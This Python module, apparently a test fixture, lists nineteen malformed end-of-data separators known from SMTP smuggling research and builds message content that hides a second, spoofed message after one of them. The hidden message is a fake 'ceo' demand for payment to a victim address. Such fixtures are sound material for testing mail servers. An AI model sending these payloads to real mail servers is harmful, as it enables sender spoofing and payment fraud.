"""What smugglers put into content, so that one server sees one message and the next one two.

`SEPARATORS` are the ends of data that some server once took for one (RS-6, and those of
the smuggling literature); `smuggled(separator)` is content with a second message behind it.
"""

SEPARATORS = {
    "LF.LF": b"\n.\n",
    "LF.CRLF": b"\n.\r\n",
    "CRLF.LF": b"\r\n.\n",
    "CR.CR": b"\r.\r",
    "CR.LF": b"\r.\n",
    "CR.CRLF": b"\r.\r\n",
    "CRLF.CR": b"\r\n.\r",
    "LF.CR": b"\n.\r",
    "CRLF NUL.CRLF": b"\r\n\0.\r\n",
    "CRLF.NUL CRLF": b"\r\n.\0\r\n",
    "CRCRLF.CRCRLF": b"\r\r\n.\r\r\n",
    "CRLF.CRCRLF": b"\r\n.\r\r\n",
    "LFCR.LFCR": b"\n\r.\n\r",
    "CRLF..LF": b"\r\n..\n",  # one dot is taken away as stuffing, the other is left
    "LF..CRLF": b"\n..\r\n",
    "VT.CRLF": b"\x0b.\r\n",
    "NEL.NEL": b"\xc2\x85.\xc2\x85",
    "LS.LS": b"\xe2\x80\xa8.\xe2\x80\xa8",
    "CRLF.SP CRLF": b"\r\n. \r\n",
}
SECOND = (
    b"MAIL FROM:<ceo@acme.example>\r\nRCPT TO:<victim@shop.example>\r\nDATA\r\n"
    b"From: ceo@acme.example\r\nSubject: smuggled\r\n\r\nPay at once.\r\n"
)
FIRST = b"From: a@acme.example\r\nTo: b@shop.example\r\nSubject: honest\r\n\r\nHello"


def smuggled(separator, first=FIRST):
    """Content, as it goes over the wire, that ends at its own `CRLF . CRLF` and nowhere else."""
    return first + separator + SECOND + b".\r\n"
